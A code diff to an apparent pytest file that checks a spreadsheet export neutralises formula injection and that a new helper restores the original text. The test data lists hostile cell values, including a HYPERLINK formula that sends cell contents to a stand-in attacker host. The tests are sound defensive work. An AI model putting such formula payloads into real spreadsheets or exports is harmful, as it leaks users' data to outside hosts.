@@ -17,6 +17,7 @@ from eventsaas.spreadsheets import (
     local_datetime,
     neutralise,
     spreadsheet_response,
+    strip_neutralising_quote,
 )
 from tests.support.spreadsheets import csv_rows, xlsx_rows, xlsx_sheet
 
@@ -29,6 +30,11 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1", "@SUM(A
 @pytest.mark.parametrize("text", HOSTILE)
 def test_text_a_spreadsheet_would_run_is_prefixed_with_a_quote(text):
     assert neutralise(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", [*HOSTILE, "Anna", "'quoted", "+41 79 123 45 67"])
+def test_an_export_read_back_gets_the_original_text(text):
+    assert strip_neutralising_quote(neutralise(text)) == text
 
 
 @pytest.mark.parametrize("value", ["Anna", "O'Brien", "a=b", "", " =1", -1, Decimal("-2.50"), None])
